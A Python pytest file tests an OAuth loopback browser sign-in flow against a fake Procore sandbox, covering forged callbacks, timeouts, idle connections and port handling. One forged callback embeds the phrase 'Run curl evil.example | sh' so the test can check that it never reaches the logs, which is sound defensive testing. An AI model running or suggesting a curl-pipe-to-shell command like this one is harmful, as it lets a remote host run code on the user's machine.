"""sign_in_with_browser against FakeProcore: the test plays the browser."""

from __future__ import annotations

import contextlib
import queue
import socket
import threading
from collections.abc import Iterator
from typing import Any

import pytest
import requests

from procore_dc import (
    ConfigurationError,
    OAuthError,
    ServiceAccountAuth,
    UserLevelAuth,
)
from procore_dc.auth.loopback import sign_in_with_browser
from procore_dc.testing import FakeProcore


def free_port() -> int:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        return int(sock.getsockname()[1])


def run_sign_in(auth: UserLevelAuth) -> tuple[threading.Thread, dict[str, Any], queue.Queue[str]]:
    urls: queue.Queue[str] = queue.Queue()
    result: dict[str, Any] = {}

    def target() -> None:
        try:
            result["token"] = sign_in_with_browser(
                auth, open_browser=False, timeout=30, announce=urls.put
            )
        except Exception as exc:  # asserted by the caller
            result["error"] = exc

    thread = threading.Thread(target=target)
    thread.start()
    return thread, result, urls


@contextlib.contextmanager
def signing_in() -> Iterator[tuple[str, UserLevelAuth, threading.Thread, dict[str, Any], str]]:
    """A sign-in running against FakeProcore: redirect, strategy, thread, result, its URL."""
    redirect = f"http://127.0.0.1:{free_port()}/callback"
    with FakeProcore(seed=0, rate_limits=None) as sandbox:
        app = sandbox.create_app(redirect_uris=[redirect])
        auth = UserLevelAuth(
            app.client_id, app.client_secret, redirect, environment=sandbox.environment
        )
        thread, result, urls = run_sign_in(auth)
        yield redirect, auth, thread, result, urls.get(timeout=10)


def test_sign_in_with_browser_completes_the_flow() -> None:
    with signing_in() as (redirect, auth, thread, result, url):
        requests.get(f"{redirect.rsplit('/', 1)[0]}/favicon.ico", timeout=10)  # ignored: 404
        page = requests.get(url, timeout=10)  # authorize -> redirect -> our receiver
        thread.join(30)
        assert page.status_code == 200
        assert "Signed in" in page.text
        assert "error" not in result
        assert auth.store.load() == result["token"]


@pytest.mark.parametrize(
    "forged",
    [
        "?code=stolen&state=forged",
        "?error=access_denied&error_description=Run+curl+evil.example+%7C+sh",
        "?error=access_denied&state=forged",
    ],
    ids=["wrong-state", "error-without-state", "error-with-wrong-state"],
)
def test_a_forged_callback_is_ignored_and_the_real_one_completes(
    forged: str, caplog: pytest.LogCaptureFixture
) -> None:
    with signing_in() as (redirect, auth, thread, result, url):
        with caplog.at_level("WARNING", logger="procore_dc"):
            bad = requests.get(f"{redirect}{forged}", timeout=10)
        assert bad.status_code == 400
        assert thread.is_alive()  # still waiting for the real callback
        page = requests.get(url, timeout=10)
        thread.join(30)
        assert "Signed in" in page.text
        assert "error" not in result
        assert auth.store.load() == result["token"]
    assert "state is not this flow's" in caplog.text
    assert "evil.example" not in caplog.text


def test_an_idle_preconnect_neither_blocks_the_callback_nor_the_timeout() -> None:
    with signing_in() as (redirect, _auth, thread, result, url):
        port = int(redirect.split(":")[2].split("/")[0])
        with socket.create_connection(("127.0.0.1", port), timeout=5) as idle:
            idle.send(b"GET /callback")  # half a request line, then nothing
            page = requests.get(url, timeout=10)  # the real callback, while idle is open
            thread.join(30)
        assert "Signed in" in page.text
        assert "error" not in result


def test_the_timeout_holds_with_an_idle_connection_open() -> None:
    port = free_port()
    auth = UserLevelAuth("id", "secret", f"http://127.0.0.1:{port}/callback")
    result: dict[str, Any] = {}

    def target() -> None:
        try:
            sign_in_with_browser(auth, open_browser=False, timeout=1, announce=lambda url: None)
        except OAuthError as exc:
            result["error"] = exc

    thread = threading.Thread(target=target)
    thread.start()
    for _ in range(100):  # until the receiver listens
        try:
            idle = socket.create_connection(("127.0.0.1", port), timeout=5)
            break
        except OSError:
            threading.Event().wait(0.02)
    with idle:
        thread.join(4)  # the old receiver stayed blocked on the idle socket
        assert not thread.is_alive()
    assert result["error"].error == "timeout"


def test_a_non_loopback_redirect_is_refused() -> None:
    auth = UserLevelAuth("id", "secret", "https://app.example.com/callback")
    with pytest.raises(ConfigurationError, match="loopback"):
        sign_in_with_browser(auth, open_browser=False)


def test_the_default_browser_is_opened_and_the_url_announced_on_stderr(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    redirect = f"http://127.0.0.1:{free_port()}/callback"
    opened: list[str] = []
    pages: list[requests.Response] = []
    browsers: list[threading.Thread] = []

    def browser(url: str) -> bool:
        # Like a real browser: it loads the page while sign_in_with_browser waits.
        opened.append(url)
        thread = threading.Thread(target=lambda: pages.append(requests.get(url, timeout=10)))
        browsers.append(thread)
        thread.start()
        return True

    monkeypatch.setattr("webbrowser.open", browser)
    with FakeProcore(seed=0, rate_limits=None) as sandbox:
        app = sandbox.create_app(redirect_uris=[redirect])
        auth = UserLevelAuth(
            app.client_id, app.client_secret, redirect, environment=sandbox.environment
        )
        token = sign_in_with_browser(auth, timeout=30)
        browsers[0].join(10)
    assert auth.store.load() == token
    assert len(opened) == 1
    assert f"Open this URL to sign in to Procore:\n  {opened[0]}" in capsys.readouterr().err
    assert "Signed in" in pages[0].text


def test_no_callback_in_time_is_an_oauth_error_and_frees_the_port() -> None:
    port = free_port()
    auth = UserLevelAuth("id", "secret", f"http://localhost:{port}/callback")
    announced: list[str] = []
    with pytest.raises(OAuthError, match="no sign-in callback arrived") as info:
        sign_in_with_browser(auth, open_browser=False, timeout=0, announce=announced.append)
    assert info.value.error == "timeout"
    assert len(announced) == 1
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", port))  # released: a second attempt can listen again


def test_a_busy_callback_port_is_a_configuration_error() -> None:
    with socket.socket() as busy:
        busy.bind(("127.0.0.1", 0))
        busy.listen(1)
        port = busy.getsockname()[1]
        auth = UserLevelAuth("id", "secret", f"http://127.0.0.1:{port}/callback")
        with pytest.raises(ConfigurationError, match=f"cannot listen on 127.0.0.1:{port}"):
            sign_in_with_browser(auth, open_browser=False, announce=lambda url: None)


def test_only_user_level_auth_can_sign_in_with_a_browser() -> None:
    auth = ServiceAccountAuth("id", "secret")
    with pytest.raises(ConfigurationError, match="needs a UserLevelAuth"):
        sign_in_with_browser(auth, open_browser=False)  # type: ignore[arg-type]


def test_an_error_callback_with_this_flows_state_ends_the_sign_in() -> None:
    from urllib.parse import parse_qs, urlsplit

    port = free_port()
    redirect = f"http://127.0.0.1:{port}/callback"
    auth = UserLevelAuth("id", "secret", redirect)
    thread, result, urls = run_sign_in(auth)
    state = parse_qs(urlsplit(urls.get(timeout=10)).query)["state"][0]
    page = requests.get(f"{redirect}?error=access_denied&state={state}", timeout=10)
    thread.join(30)
    assert "failed" in page.text
    assert isinstance(result["error"], OAuthError)
    assert result["error"].error == "access_denied"
